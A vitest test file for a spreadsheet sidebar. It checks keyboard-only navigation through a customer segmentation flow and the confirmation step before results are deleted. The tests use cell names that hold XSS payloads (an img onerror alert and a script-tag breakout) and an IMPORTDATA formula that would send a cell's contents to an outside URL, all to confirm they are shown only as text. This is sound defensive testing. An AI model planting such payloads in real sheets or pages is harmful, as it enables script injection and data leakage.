// Tests the sidebar by keyboard alone, and with names in the sheet that would do harm if they were more than text.
import { describe, expect, test } from "vitest";
import type { HostCell } from "../../workbench/host/spreadsheetSetup";
import { ambiguous, headed, open, press } from "./sidebarDriver";

describe("the keyboard alone", () => {
  test("gets from the first view through a question to the result", async () => {
    const { page } = await open(ambiguous);
    const focused = (): Promise<string> => page.evaluate(() => document.activeElement?.textContent ?? "");
    await page.getByText("Customer = A").waitFor();
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("Explain selected row");
    await page.keyboard.press("Tab");
    expect(await page.getByLabel("Add a sentence with the reason").evaluate((box) => box === document.activeElement)).toBe(true);
    const words = ["What is a tier?", "How recently, how often, how much?", "What are scores?", "What is the as-of date?"];
    for (const name of [...words, "Segment my customers"]) {
      await page.keyboard.press("Tab");
      expect(await focused()).toBe(name);
    }
    expect(await page.evaluate(() => getComputedStyle(document.activeElement!).outlineStyle)).toBe("solid");
    await page.keyboard.press("Enter");
    await headed(page, "One thing to decide");
    await expect.poll(focused).toBe("One thing to decide");
    await page.keyboard.press("Tab");
    await page.keyboard.press("ArrowDown");
    expect(await page.getByLabel("Month first (12/31/2024)").isChecked()).toBe(true);
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("Continue");
    await page.keyboard.press("Space");
    await headed(page, /were written$/);
    await expect.poll(focused).toMatch(/were written$/);
    const links = ["Open “Customers”", "Open “Summary”", "Explain selected row"];
    for (const name of [
      ...links,
      "Undo last run",
      "Remove results",
      "Sort into high, middle and low value",
      "Sort by recency and revenue",
      "What to do with each tier",
    ]) {
      await page.keyboard.press("Tab");
      expect(await focused()).toBe(name);
    }
    await page.keyboard.press("Enter");
    expect(await page.locator("details[open]").count()).toBe(1);
  });

  test("asks before results are removed, goes back to the button, and removes them", async () => {
    const { page, host } = await open(ambiguous);
    const focused = (): Promise<string> => page.evaluate(() => document.activeElement?.textContent ?? "");
    await press(page, "Segment my customers");
    await page.getByLabel("Day first (31/12/2024)").check();
    await press(page, "Continue");
    await headed(page, /were written$/);
    await page.getByRole("button", { name: "Remove results" }).focus();
    await page.keyboard.press("Enter");
    await expect.poll(focused).toMatch(/^This deletes the tabs and columns that were added, and cannot be undone\./);
    await page.keyboard.press("Tab");
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("Keep them");
    await page.keyboard.press("Enter");
    await expect.poll(focused).toBe("Remove results");
    expect(host.grid.sheets().map(({ name }) => name)).toContain("Customers");
    await page.keyboard.press("Enter");
    await expect.poll(focused).toMatch(/^This deletes/);
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("Remove results");
    await page.keyboard.press("Enter");
    await headed(page, "The results are removed");
    await expect.poll(focused).toBe("The results are removed");
    expect(host.grid.sheets().map(({ name }) => name)).toEqual(["Orders"]);
  });
});

describe("names from the sheet", () => {
  const image = '<img src=x onerror="alert(1)">';
  const script = "</script><script>alert(2)</script>";
  const formula = '=IMPORTDATA("https://example.com/?"&A1)';

  test("are shown as text, whatever they hold", async () => {
    const sheet: HostCell[][] = [
      [`Customer ${image}`, "Order date", `Amount ${formula}`, "Status", "Note"],
      [image, "2024-01-31", 10, "Completed", script],
      [formula, "2024-02-29", 20, "Completed", ""],
      [script, "2024-02-29", image, "Completed", ""],
      ["Ada", "2024-03-01", 20, `Cancelled ${image}`, ""],
    ];
    const { page } = await open(sheet);
    await page.getByLabel("Customer", { exact: true }).selectOption(`Customer ${image}`);
    await press(page, "Segment my customers");
    await headed(page, /were written$/);
    for (const summary of await page.locator("summary").all()) await summary.click();
    const text = await page.locator("main").innerText();
    for (const name of [`Customer ${image}`, `Amount ${formula}`]) expect(text).toContain(name);
    expect(await page.locator("img, main script").count()).toBe(0);
  });

  test("stay text in a question and in an error, too", async () => {
    const sheet: HostCell[][] = [
      ["Customer", "Order date", "Amount", image],
      ["Ada", "03/04/2024", 10, script],
      ["Ben", "05/06/2024", 20, formula],
    ];
    const { page } = await open([["Customer", `${image} ${script}`, "Amount"], ...sheet.slice(1).map((row) => row.slice(0, 3))]);
    await press(page, "Segment my customers");
    await headed(page, "One thing to decide");
    expect(await page.getByRole("alert").innerText()).toContain(image);
    expect(await page.locator("img, main script").count()).toBe(0);
  });
});
